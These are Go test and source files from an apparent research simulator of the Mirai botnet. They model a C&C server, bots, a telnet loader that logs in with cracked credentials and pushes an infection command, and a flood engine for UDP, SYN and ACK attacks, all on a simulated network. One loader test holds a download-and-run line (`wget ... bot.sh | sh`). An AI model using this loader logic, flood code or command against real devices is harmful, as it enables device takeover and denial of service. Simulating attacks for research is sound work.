	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	cnc.LaunchAttack(AttackCommand{Method: MethodUDPPlain, Target: tserver.Addr4(), Port: 80, Duration: 20})
	if err := r.sched.Run(60 * sim.Second); err != nil {
		t.Fatal(err)
	}
	slow := sink.BytesFrom(v1.Node().Addr4())
	fast := sink.BytesFrom(v2.Node().Addr4())
	if slow == 0 || fast == 0 {
		t.Fatalf("slow=%d fast=%d", slow, fast)
	}
	ratio := float64(fast) / float64(slow)
	if ratio < 3.5 || ratio > 4.5 {
		t.Fatalf("rate ratio = %.2f, want ~4 (line-rate pacing)", ratio)
	}
}

func TestBotReconnectsAfterChurn(t *testing.T) {
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{BotTimeout: 20 * sim.Second})
	victim, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC:            netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		ReconnectDelay: 5 * sim.Second,
		PingPeriod:     2 * sim.Second, // fast pings so death is detected quickly
	}, 500*netsim.Kbps)
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	if cnc.BotCount() != 1 {
		t.Fatalf("precondition: bot count = %d", cnc.BotCount())
	}
	// Churn the device out for a while; pings die, connection resets.
	victim.Node().DefaultDevice().SetUp(false)
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if cnc.BotCount() != 0 {
		t.Fatalf("dead bot still registered: %d", cnc.BotCount())
	}
	// Device rejoins: the bot must re-register.
	victim.Node().DefaultDevice().SetUp(true)
	if err := r.sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if cnc.BotCount() != 1 {
		t.Fatalf("bot did not re-register after rejoin: %d", cnc.BotCount())
	}
	if bot.Reconnects == 0 {
		t.Fatal("no reconnect attempts recorded")
	}
	if cnc.TotalRegistered < 2 {
		t.Fatalf("TotalRegistered = %d, want >= 2", cnc.TotalRegistered)
	}
}

func TestOfflineBotMissesAttackCommand(t *testing.T) {
	// The Fig. 2 dynamic-churn mechanism: a bot that is offline when
	// the command is issued never attacks, even after rejoining.
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{})
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	sink, err := netsim.InstallSink(tserver, 80)
	if err != nil {
		t.Fatal(err)
	}
	victim, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC:        netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		PingPeriod: 2 * sim.Second,
	}, 500*netsim.Kbps)
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	victim.Node().DefaultDevice().SetUp(false)
	if err := r.sched.Run(sim.Minute); err != nil { // connection dies
		t.Fatal(err)
	}
	cnc.LaunchAttack(AttackCommand{Method: MethodUDPPlain, Target: tserver.Addr4(), Port: 80, Duration: 10})
	victim.Node().DefaultDevice().SetUp(true)
	if err := r.sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if bot.CommandsSeen != 0 {
		t.Fatal("offline bot received the attack command")
	}
	if sink.RxPackets() != 0 {
		t.Fatal("offline bot attacked after rejoining")
	}
	if !bot.Connected() {
		t.Fatal("bot should have re-registered after rejoin")
	}
}

func TestReplayDeliversTrimmedCommandToLateBot(t *testing.T) {
	// The opt-in robustness knob: with ReplayAttackCommand on, a bot
	// that re-registers while the attack window is still open gets the
	// command re-sent with the duration trimmed to the remaining time.
	// (The default-off behaviour — the paper's Fig. 2 churn gap — is
	// pinned by TestOfflineBotMissesAttackCommand above.)
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{ReplayAttackCommand: true})
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	sink, err := netsim.InstallSink(tserver, 80)
	if err != nil {
		t.Fatal(err)
	}
	victim, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC:        netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		PingPeriod: 2 * sim.Second,
	}, 500*netsim.Kbps)
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	victim.Node().DefaultDevice().SetUp(false)
	if err := r.sched.Run(sim.Minute); err != nil { // connection dies
		t.Fatal(err)
	}
	cnc.LaunchAttack(AttackCommand{Method: MethodUDPPlain, Target: tserver.Addr4(), Port: 80, Duration: 120})
	victim.Node().DefaultDevice().SetUp(true)
	if err := r.sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if bot.CommandsSeen == 0 {
		t.Fatal("late bot never received the replayed command")
	}
	if cnc.CommandReplays == 0 {
		t.Fatal("CNC recorded no replays")
	}
	if sink.RxPackets() == 0 {
		t.Fatal("late bot never attacked")
	}
	// The replay is trimmed: the bot rejoined well into the 120 s
	// window, so its flood cannot have run the full duration.
	if got := sink.Series().KbpsSeries(0, 65+125); len(got) != 0 {
		secs := 0
		for _, v := range got {
			if v > 0 {
				secs++
			}
		}
		if secs >= 120 {
			t.Fatalf("flood ran %d s, want < 120 (trimmed replay)", secs)
		}
	}
}

func TestTelnetAdminSession(t *testing.T) {
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{User: "researcher", Pass: "hunter2"})
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	if _, err := netsim.InstallSink(tserver, 80); err != nil {
		t.Fatal(err)
	}
	_, bot := r.spawnBot(t, "dev-1", BotConfig{
		CNC: netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
	}, 500*netsim.Kbps)
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}

	admin := r.star.AttachHost("admin", 10*netsim.Mbps, sim.Millisecond, 0)
	var session *AdminSession
	RunAdminSession(admin, netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		"researcher", "hunter2",
		[]string{"botcount", "udpplain " + tserver.Addr4().String() + " 80 5"},
		func(s *AdminSession) { session = s })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if session == nil {
		t.Fatal("admin session never completed")
	}
	if session.Err != nil {
		t.Fatal(session.Err)
	}
	out := session.Transcript.String()
	if !strings.Contains(out, "1 bots connected.") {
		t.Fatalf("botcount output missing: %q", out)
	}
	if !strings.Contains(out, "attack sent to 1 bots") {
		t.Fatalf("attack output missing: %q", out)
	}
	if cnc.AttacksIssued != 1 {
		t.Fatalf("AttacksIssued = %d", cnc.AttacksIssued)
	}
	if bot.CommandsSeen != 1 {
		t.Fatalf("bot saw %d commands via telnet path", bot.CommandsSeen)
	}
}

func TestTelnetBadLogin(t *testing.T) {
	r := newRig(t)
	attacker, _ := r.spawnCNC(t, CNCConfig{})
	admin := r.star.AttachHost("admin", 10*netsim.Mbps, sim.Millisecond, 0)
	var session *AdminSession
	RunAdminSession(admin, netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		"root", "wrong", []string{"botcount"},
		func(s *AdminSession) { session = s })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if session == nil {
		t.Fatal("session never completed")
	}
	if !strings.Contains(session.Transcript.String(), "login failed") {
		t.Fatalf("transcript = %q", session.Transcript.String())
	}
	if strings.Contains(session.Transcript.String(), "bots connected") {
		t.Fatal("command executed despite failed login")
	}
}

func TestTelnetUnknownCommand(t *testing.T) {
	r := newRig(t)
	attacker, _ := r.spawnCNC(t, CNCConfig{})
	admin := r.star.AttachHost("admin", 10*netsim.Mbps, sim.Millisecond, 0)
	var session *AdminSession
	RunAdminSession(admin, netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		"root", "root", []string{"fraggle", "udpplain nonsense"},
		func(s *AdminSession) { session = s })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	out := session.Transcript.String()
	if !strings.Contains(out, "unknown command") {
		t.Fatalf("unknown command not flagged: %q", out)
	}
	if !strings.Contains(out, "usage: udpplain") {
		t.Fatalf("usage not shown: %q", out)
	}
}

func TestStartJitterDelaysFlood(t *testing.T) {
	r := newRig(t)
	attacker, cnc := r.spawnCNC(t, CNCConfig{})
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	sink, err := netsim.InstallSink(tserver, 80)
	if err != nil {
		t.Fatal(err)
	}
	var startedAt sim.Time = -1
	_, _ = r.spawnBot(t, "dev-1", BotConfig{
		CNC:           netip.AddrPortFrom(attacker.Node().Addr4(), CNCPort),
		StartJitter:   30 * sim.Second,
		OnAttackStart: func(netip.Addr) { startedAt = r.sched.Now() },
	}, 500*netsim.Kbps)
	if err := r.sched.Run(5 * sim.Second); err != nil {
		t.Fatal(err)
	}
	issued := r.sched.Now()
	cnc.LaunchAttack(AttackCommand{Method: MethodUDPPlain, Target: tserver.Addr4(), Port: 80, Duration: 10})
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if startedAt < 0 {
		t.Fatal("flood never started")
	}
	if startedAt <= issued+sim.Millisecond {
		t.Fatalf("flood started immediately (%v) despite jitter", startedAt-issued)
	}
	if sink.RxPackets() == 0 {
		t.Fatal("no packets after jittered start")
	}
}

func TestParseAttackCommand(t *testing.T) {
	cmd, err := ParseAttackCommand("udpplain 10.3.0.2 80 100\n")
	if err != nil {
		t.Fatal(err)
	}
	if cmd.Target != netip.MustParseAddr("10.3.0.2") || cmd.Port != 80 || cmd.Duration != 100 {
		t.Fatalf("cmd = %+v", cmd)
	}
	if cmd.Encode() != "udpplain 10.3.0.2 80 100\n" {
		t.Fatalf("Encode = %q", cmd.Encode())
	}
	for _, bad := range []string{
		"", "udpplain", "synflood 10.0.0.1 80 10",
		"udpplain nothost 80 10", "udpplain 10.0.0.1 99999 10",
		"udpplain 10.0.0.1 80 0", "udpplain 10.0.0.1 80 -5",
		"udpplain 10.0.0.1 80 ten",
	} {
		if _, err := ParseAttackCommand(bad); err == nil {
			t.Errorf("ParseAttackCommand(%q) accepted", bad)
		}
	}
}

func TestLineBuffer(t *testing.T) {
	var lb lineBuffer
	if got := lb.feed([]byte("par")); len(got) != 0 {
		t.Fatalf("partial yielded %v", got)
	}
	got := lb.feed([]byte("tial\nsecond\r\nthi"))
	if len(got) != 2 || got[0] != "partial" || got[1] != "second" {
		t.Fatalf("lines = %v", got)
	}
	got = lb.feed([]byte("rd\n"))
	if len(got) != 1 || got[0] != "third" {
		t.Fatalf("lines = %v", got)
	}
}
