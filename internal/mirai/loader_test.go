package mirai

import (
	"net/netip"
	"strings"
	"testing"

	"ddosim/internal/binaries/telnetd"
	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// loaderRig builds an attacker container running just the loader.
func loaderRig(t *testing.T, cfg LoaderConfig) (*rig, *Loader) {
	t.Helper()
	r := newRig(t)
	img := &container.Image{
		Name: "ddosim/atk", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create("ddosim/atk:t", "attacker", r.link(100*netsim.Mbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	l := NewLoader(cfg)
	c.Spawn(l)
	return r, l
}

// echoTelnet is a telnet-ish server on a raw host that, unlike the
// simulated BusyBox telnetd, echoes every line back (as a telnet NVT
// with ECHO on does), greets with a banner containing "$ ", executes
// shell commands after a delay, and can drop its first failLogins
// sessions right after receiving the password.
type echoTelnet struct {
	sched      *sim.Scheduler
	node       *netsim.Node
	failLogins int
	execDelay  sim.Time

	sessions int
	commands []string
	ran      int
}

func newEchoTelnet(t *testing.T, r *rig, failLogins int) *echoTelnet {
	t.Helper()
	et := &echoTelnet{sched: r.sched, failLogins: failLogins, execDelay: 200 * sim.Millisecond}
	et.node = r.star.AttachHost("echodev", 500*netsim.Kbps, sim.Millisecond, 0)
	if _, err := et.node.ListenTCP(23, et.accept); err != nil {
		t.Fatal(err)
	}
	return et
}

func (et *echoTelnet) accept(conn *netsim.TCPConn) {
	et.sessions++
	state := 0
	var buf []byte
	_ = conn.Send([]byte("console on dev$ board\nlogin: "))
	conn.SetDataHandler(func(data []byte) {
		buf = append(buf, data...)
		for {
			idx := strings.IndexByte(string(buf), '\n')
			if idx < 0 {
				return
			}
			line := strings.TrimRight(string(buf[:idx]), "\r")
			buf = buf[idx+1:]
			_ = conn.Send([]byte(line + "\r\n")) // NVT echo
			switch state {
			case 0:
				state = 1
				_ = conn.Send([]byte("Password: "))
			case 1:
				if et.failLogins > 0 {
					et.failLogins--
					conn.Close()
					return
				}
				state = 2
				_ = conn.Send([]byte("welcome\n$ "))
			case 2:
				if line == "exit" {
					conn.Close()
					return
				}
				et.commands = append(et.commands, line)
				et.sched.Schedule(et.execDelay, func() {
					et.ran++
					_ = conn.Send([]byte("$ "))
				})
			}
		}
	})
}

func TestLoaderIgnoresPromptLookalikesInBannerAndEcho(t *testing.T) {
	// Regression: the old state machine matched prompts against the
	// whole accumulated transcript, so a banner containing "$ " plus
	// the server's echo of an InfectionCommand containing "$ "
	// satisfied the prompt-return check before the command had run.
	cmd := `wget -q http://10.0.0.1/bot.sh -O- | sh # price $ 0`
	r, l := loaderRig(t, LoaderConfig{InfectionCommand: cmd})
	et := newEchoTelnet(t, r, 0)
	l.cfg.OnLoaded = func(netip.Addr) {
		if et.ran == 0 {
			t.Error("OnLoaded fired before the infection command executed")
		}
	}
	l.onReport("victim " + et.node.Addr4().String() + " root admin")
	if err := r.sched.Run(2 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if l.Loads != 1 {
		t.Fatalf("loads = %d", l.Loads)
	}
	if len(et.commands) != 1 || et.commands[0] != cmd {
		t.Fatalf("victim ran %q, want %q once", et.commands, cmd)
	}
}

func TestLoaderBackoffRecoversFromMidLoginDeath(t *testing.T) {
	// Sessions dying mid-login must leave the victim reloadable, and
	// the loader's own backoff — no fresh scanner report — must
	// eventually infect it.
	r, l := loaderRig(t, LoaderConfig{InfectionCommand: "run bot"})
	et := newEchoTelnet(t, r, 2)
	l.onReport("victim " + et.node.Addr4().String() + " root admin")
	if err := r.sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if l.Loads != 1 {
		t.Fatalf("loads = %d (retries = %d)", l.Loads, l.Retries)
	}
	if l.Retries < 2 {
		t.Fatalf("retries = %d, want >= 2", l.Retries)
	}
	if et.sessions != 3 {
		t.Fatalf("sessions = %d, want 3 (two dropped + one success)", et.sessions)
	}
	if l.Loaded() != 1 {
		t.Fatalf("loaded = %d", l.Loaded())
	}
}

func TestLoaderBackoffAloneInfectsOfflineVictim(t *testing.T) {
	// A single report for an offline victim; the victim comes back two
	// minutes later and is never re-reported. Active re-dial must pick
	// it up.
	sr := newScanRig(t, telnetd.Cred{User: "root", Pass: "admin"}, "rm -f /nothing")
	victimAddr := sr.victim.Node().Addr4()
	sr.victim.Node().DefaultDevice().SetUp(false)
	sr.loader.onReport("victim " + victimAddr.String() + " root admin")
	sr.sched.Schedule(2*sim.Minute, func() {
		sr.victim.Node().DefaultDevice().SetUp(true)
	})
	if err := sr.sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if sr.loader.Loads != 1 {
		t.Fatalf("loads = %d (backoff never reached the victim; retries = %d)",
			sr.loader.Loads, sr.loader.Retries)
	}
	if sr.loader.Retries == 0 {
		t.Fatal("no retries recorded")
	}
	if sr.telnet.Logins != 1 {
		t.Fatalf("victim logins = %d", sr.telnet.Logins)
	}
}

func TestLoaderReleasesVictimAfterRetryBudget(t *testing.T) {
	r, l := loaderRig(t, LoaderConfig{
		InfectionCommand: "run bot",
		RetryBase:        sim.Second,
		MaxRetries:       2,
	})
	dead := r.star.AttachHost("empty", netsim.Mbps, sim.Millisecond, 0) // nothing on port 23
	addr := dead.Addr4()
	l.onReport("victim " + addr.String() + " root admin")
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if l.Retries != 2 {
		t.Fatalf("retries = %d, want exactly MaxRetries", l.Retries)
	}
	if l.Loads != 0 || l.loaded[addr] != nil {
		t.Fatal("unreachable victim marked loaded")
	}
	// The budget exhausted: the victim is released so a later scanner
	// report can start over.
	if l.pending[addr] != nil {
		t.Fatal("victim still pending after retry budget")
	}
}

func TestLoaderRetryDisabled(t *testing.T) {
	r, l := loaderRig(t, LoaderConfig{InfectionCommand: "run bot", MaxRetries: -1})
	dead := r.star.AttachHost("empty", netsim.Mbps, sim.Millisecond, 0)
	addr := dead.Addr4()
	l.onReport("victim " + addr.String() + " root admin")
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if l.Retries != 0 {
		t.Fatalf("retries = %d with MaxRetries < 0", l.Retries)
	}
	if l.pending[addr] != nil {
		t.Fatal("victim still pending with retries disabled")
	}
}
