package mirai

import (
	"net/netip"
	"testing"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// idleBehavior owns nothing; it exists to get a live Process for a
// standalone Flooder without a C&C in the loop.
type idleBehavior struct{}

func (idleBehavior) Name() string               { return "idle" }
func (idleBehavior) Start(p *container.Process) {}
func (idleBehavior) Stop(p *container.Process)  {}

// TestP2PFloodPathZeroAlloc pins the DHT family's flood loop — a
// LaunchUntil order driving the shared Flooder's tick chain, the
// path internal/p2pbot bots take when a replicated record commands an
// attack — at zero steady-state allocations per event slice. It is
// the companion of netsim's TestUDPFloodPathZeroAllocWithFlows, and
// the dynamic half of the //simlint:hotpath contract on Flooder.tick:
// the re-arm must go through the pre-bound tickFn, never a fresh
// closure. CI asserts on this test by name.
func TestP2PFloodPathZeroAlloc(t *testing.T) {
	if netsim.SanitizerEnabled() {
		t.Skip("simdebug sanitizer records call sites and allocates")
	}
	r := newRig(t)
	tserver := r.star.AttachHost("tserver", 100*netsim.Mbps, sim.Millisecond, 0)
	if _, err := tserver.BindUDP(80, nil); err != nil {
		t.Fatal(err)
	}
	img := &container.Image{
		Name: "ddosim/p2p", Tag: "t", Arch: "x86_64",
		Files: map[string][]byte{}, ExecPaths: map[string]bool{},
	}
	r.engine.RegisterImage(img)
	c, err := r.engine.Create("ddosim/p2p:t", "p2p-bot", r.link(100*netsim.Mbps))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	f := NewFlooder(c.Spawn(idleBehavior{}), 0)
	target := netip.AddrPortFrom(tserver.Addr4(), 80)
	if !f.LaunchUntil(MethodUDPPlain, target, 60*sim.Minute, 0, nil) {
		t.Fatal("LaunchUntil failed")
	}

	step := func() {
		if err := r.sched.Run(r.sched.Now() + 10*sim.Millisecond); err != nil {
			t.Fatal(err)
		}
	}
	// Warm the packet pool, device queues, and scheduler slots.
	for i := 0; i < 64; i++ {
		step()
	}
	if !f.Attacking() {
		t.Fatal("flood not live after warm-up")
	}
	before := f.Sent()
	if avg := testing.AllocsPerRun(200, step); avg != 0 {
		t.Fatalf("p2p flood path allocates %.2f/op, want 0", avg)
	}
	if f.Sent() == before {
		t.Fatal("flood made no progress during measurement")
	}
}
