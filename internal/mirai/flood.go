package mirai

import (
	"net/netip"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// Flooder is the Mirai attack engine, factored out of the bot behaviour
// so other botnet families (the Kademlia-DHT bot in internal/p2pbot)
// launch byte-for-byte the same floods their Mirai siblings do: paced
// at the device's own line rate, UDP-PLAIN carrying padded payloads,
// SYN/ACK as crafted header-only segments with randomized source ports
// and sequence numbers.
//
// A Flooder belongs to one process and draws jitter and TCP header
// randomness from that process's deterministic RNG stream. Launch may
// be called again while a flood is live (Mirai C&C operators re-command
// mid-attack; the DHT family re-reads records): the new order replaces
// the old one and the superseded tick chain dies at its next event via
// a generation stamp, so overlapping commands never double the rate.
type Flooder struct {
	p            *container.Process
	payloadBytes int

	method   string
	dst      netip.AddrPort
	until    sim.Time
	interval sim.Time
	sock     *netsim.UDPSocket

	attacking bool
	gen       int
	sent      uint64

	// tickFn is the re-arm callback, bound once per launch so the
	// per-packet Schedule call in tick allocates nothing (the flood
	// loop is a declared hot path; see //simlint:hotpath on tick).
	tickFn func()
}

// NewFlooder builds the engine for p. payloadBytes sizes the UDP-PLAIN
// padding (DefaultUDPPlainPayload when <= 0).
func NewFlooder(p *container.Process, payloadBytes int) *Flooder {
	if payloadBytes <= 0 {
		payloadBytes = DefaultUDPPlainPayload
	}
	return &Flooder{p: p, payloadBytes: payloadBytes}
}

// Attacking reports whether the flood loop is live.
func (f *Flooder) Attacking() bool { return f.attacking }

// Sent reports flood packets emitted so far, cumulative across
// launches.
func (f *Flooder) Sent() uint64 { return f.sent }

// Until reports the absolute instant the current order expires.
func (f *Flooder) Until() sim.Time { return f.until }

// Stop abandons the current order; the tick chain dies at its next
// event.
func (f *Flooder) Stop() {
	f.gen++
	f.attacking = false
}

// LaunchFor starts (or replaces) a flood against dst running for
// durationSecs measured from the jittered start instant — the Mirai
// command semantic: a bot that begins late still floods the full
// commanded window (the ramp-amortization mechanism behind the paper's
// Fig. 3).
func (f *Flooder) LaunchFor(method string, dst netip.AddrPort, durationSecs int, jitter sim.Time, onStart func()) bool {
	return f.launch(method, dst, jitter, onStart,
		func(start sim.Time) sim.Time { return start + sim.Time(durationSecs)*sim.Second })
}

// LaunchUntil starts (or replaces) a flood against dst that runs until
// the absolute instant until — the replicated-record semantic of the
// DHT family, whose signed commands carry a campaign end time rather
// than a per-bot duration.
func (f *Flooder) LaunchUntil(method string, dst netip.AddrPort, until sim.Time, jitter sim.Time, onStart func()) bool {
	return f.launch(method, dst, jitter, onStart, func(sim.Time) sim.Time { return until })
}

// launch arms the flood: bind/craft by method, supersede any live
// order, then schedule the first packet after a uniformly-random delay
// in [0, jitter] drawn from the process RNG (zero jitter starts now).
// onStart, when non-nil, observes the first-packet instant; untilAt
// maps the start instant to the order's expiry. Returns false for an
// unknown method or an unbindable socket.
func (f *Flooder) launch(method string, dst netip.AddrPort, jitter sim.Time, onStart func(), untilAt func(sim.Time) sim.Time) bool {
	rate := f.p.Node().DefaultDevice().Rate()
	var wireSize int
	var sock *netsim.UDPSocket
	switch method {
	case MethodUDPPlain:
		s, err := f.p.BindUDP(0, nil)
		if err != nil {
			f.p.Logf("flood: socket: %v", err)
			return false
		}
		sock = s
		wireSize = (&netsim.Packet{Proto: netsim.ProtoUDP, Dst: dst, Pad: f.payloadBytes}).Size()
	case MethodSYN, MethodACK:
		wireSize = (&netsim.Packet{Proto: netsim.ProtoTCP, Dst: dst, TCP: &netsim.TCPHeader{}}).Size()
	default:
		f.p.Logf("flood: unknown method %q", method)
		return false
	}
	// Supersede any live order: retire its socket and invalidate its
	// tick chain before installing the replacement.
	if f.sock != nil {
		f.sock.Close()
	}
	f.gen++
	f.method, f.dst, f.sock = method, dst, sock
	f.interval = rate.TxTime(wireSize)

	delay := sim.Time(0)
	if jitter > 0 {
		delay = sim.Time(f.p.RNG().Int63n(int64(jitter)))
	}
	start := f.p.Sched().Now() + delay
	f.until = untilAt(start)
	gen := f.gen
	f.tickFn = func() { f.tick(gen) }
	f.p.Sched().ScheduleAt(start, func() {
		if gen != f.gen || !f.p.Alive() {
			return
		}
		f.attacking = true
		if onStart != nil {
			onStart()
		}
		f.tick(gen)
	})
	return true
}

// tick emits one flood packet and re-arms, pacing the loop at the
// device line rate until the order expires or is superseded. This is
// the shared flood engine's per-packet loop — the path both botnet
// families pace at line rate — so it re-arms through the pre-bound
// tickFn instead of a fresh closure.
//
//simlint:hotpath
func (f *Flooder) tick(gen int) {
	if gen != f.gen {
		return
	}
	if !f.p.Alive() || f.p.Sched().Now() >= f.until {
		f.attacking = false
		return
	}
	switch f.method {
	case MethodUDPPlain:
		f.sock.SendPadded(f.dst, nil, f.payloadBytes)
	case MethodSYN:
		f.sendRawTCP(f.dst, netsim.FlagSYN)
	case MethodACK:
		f.sendRawTCP(f.dst, netsim.FlagACK)
	}
	f.sent++
	f.p.Sched().Schedule(f.interval, f.tickFn)
}

// sendRawTCP injects a crafted header-only segment with a randomized
// source port and sequence number — Mirai's syn/ack attack modules
// bypass the OS stack the same way.
func (f *Flooder) sendRawTCP(dst netip.AddrPort, flags netsim.TCPFlags) {
	node := f.p.Node()
	src := node.Addr4()
	if dst.Addr().Is6() {
		src = node.Addr6()
	}
	rng := f.p.RNG()
	pkt := node.AllocPacket()
	pkt.UID = node.NextUID()
	pkt.Proto = netsim.ProtoTCP
	pkt.Src = netip.AddrPortFrom(src, uint16(1024+rng.Intn(64000)))
	pkt.Dst = dst
	pkt.SetTCP(flags, uint32(rng.Int63()), 0)
	node.SendPacket(pkt)
}
