package mirai

import (
	"net/netip"
	"strings"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
)

// LoaderConfig parameterizes the Mirai loader.
type LoaderConfig struct {
	// Port is the scanListen port. Defaults to ScanListenPort.
	Port uint16
	// InfectionCommand is the shell one-liner pushed through the
	// victim's telnet session (curl -s URL | sh).
	InfectionCommand string
	// OnLoaded observes each successful load.
	OnLoaded func(victim netip.Addr)
}

// Loader is Mirai's loading infrastructure: it accepts victim reports
// from scanners, telnets in with the reported credentials, and pushes
// the infection command.
type Loader struct {
	cfg LoaderConfig
	p   *container.Process

	loaded map[netip.Addr]bool

	// Counters for tests and experiments.
	Reports uint64
	Loads   uint64
}

var _ container.Behavior = (*Loader)(nil)

// NewLoader creates the behaviour.
func NewLoader(cfg LoaderConfig) *Loader {
	if cfg.Port == 0 {
		cfg.Port = ScanListenPort
	}
	return &Loader{cfg: cfg, loaded: make(map[netip.Addr]bool)}
}

// LoaderFactory adapts NewLoader to the binary registry.
func LoaderFactory(cfg LoaderConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewLoader(cfg) }
}

// Name implements container.Behavior.
func (l *Loader) Name() string { return "scanListen" }

// Start implements container.Behavior.
func (l *Loader) Start(p *container.Process) {
	l.p = p
	if _, err := p.ListenTCP(l.cfg.Port, l.accept); err != nil {
		p.Logf("loader: %v", err)
	}
}

// Stop implements container.Behavior.
func (l *Loader) Stop(*container.Process) {}

// Loaded reports how many distinct victims were infected.
func (l *Loader) Loaded() int { return len(l.loaded) }

func (l *Loader) accept(conn *netsim.TCPConn) {
	var lb lineBuffer
	conn.SetDataHandler(func(data []byte) {
		for _, line := range lb.feed(data) {
			l.onReport(line)
		}
	})
	conn.SetCloseHandler(func(error) {})
}

func (l *Loader) onReport(line string) {
	fields := strings.Fields(line)
	if len(fields) != 4 || fields[0] != "victim" {
		return
	}
	addr, err := netip.ParseAddr(fields[1])
	if err != nil {
		return
	}
	l.Reports++
	if l.loaded[addr] {
		return // already handled; scanners re-discover constantly
	}
	l.loaded[addr] = true
	l.load(addr, fields[2], fields[3])
}

// load drives the victim's telnet session: login, push the infection
// one-liner, wait for the prompt to return, exit.
func (l *Loader) load(victim netip.Addr, user, pass string) {
	l.p.DialTCP(netip.AddrPortFrom(victim, 23), func(c *netsim.TCPConn, err error) {
		if err != nil {
			delete(l.loaded, victim) // allow a retry on a later report
			return
		}
		var transcript strings.Builder
		stage := 0
		c.SetDataHandler(func(data []byte) {
			transcript.Write(data)
			text := transcript.String()
			switch {
			case stage == 0 && strings.Contains(text, "login: "):
				stage = 1
				_ = c.Send([]byte(user + "\n"))
			case stage == 1 && strings.Contains(text, "Password: "):
				stage = 2
				_ = c.Send([]byte(pass + "\n"))
			case stage == 2 && strings.Contains(text, "$ "):
				stage = 3
				_ = c.Send([]byte(l.cfg.InfectionCommand + "\n"))
			case stage == 3 && strings.Count(text, "$ ") >= 2:
				stage = 4
				l.Loads++
				if l.cfg.OnLoaded != nil {
					l.cfg.OnLoaded(victim)
				}
				_ = c.Send([]byte("exit\n"))
				c.Close()
			}
		})
		c.SetCloseHandler(func(cerr error) {
			if stage < 4 {
				delete(l.loaded, victim)
			}
		})
	})
}
