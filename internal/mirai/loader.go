package mirai

import (
	"bytes"
	"net/netip"
	"strings"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// Loader retry defaults: a failed load is re-dialed with capped
// exponential backoff (10 s, 20 s, 40 s, … capped at 160 s) before
// falling back to waiting for a scanner to re-report the victim.
const (
	DefaultRetryBase  = 10 * sim.Second
	DefaultRetryCap   = 160 * sim.Second
	DefaultMaxRetries = 6
)

// LoaderConfig parameterizes the Mirai loader.
type LoaderConfig struct {
	// Port is the scanListen port. Defaults to ScanListenPort.
	Port uint16
	// InfectionCommand is the shell one-liner pushed through the
	// victim's telnet session (curl -s URL | sh).
	InfectionCommand string
	// OnLoaded observes each successful load.
	OnLoaded func(victim netip.Addr)
	// OnReport observes each accepted victim report — one a scanner
	// cracked and the loader is not already tracking. Duplicate
	// re-discoveries of a pending or loaded victim are not reported.
	OnReport func(victim netip.Addr)

	// RetryBase, RetryCap, and MaxRetries shape the active re-dial
	// backoff after a failed load (dial error, or a session that dies
	// before the infection command completes). Zero values select the
	// defaults above; MaxRetries < 0 disables active retries entirely
	// (the pre-backoff behaviour: wait for a scanner to re-report).
	RetryBase  sim.Time
	RetryCap   sim.Time
	MaxRetries int
}

// Loader is Mirai's loading infrastructure: it accepts victim reports
// from scanners, telnets in with the reported credentials, and pushes
// the infection command.
type Loader struct {
	cfg LoaderConfig
	p   *container.Process

	// loaded maps each infected victim to the credentials that worked;
	// keeping them lets Forget re-load a rebooted device without
	// waiting for a scanner to re-crack it.
	loaded  map[netip.Addr]*pendingLoad
	pending map[netip.Addr]*pendingLoad

	// Counters for tests and experiments.
	Reports uint64
	Loads   uint64
	Retries uint64
	Reloads uint64
}
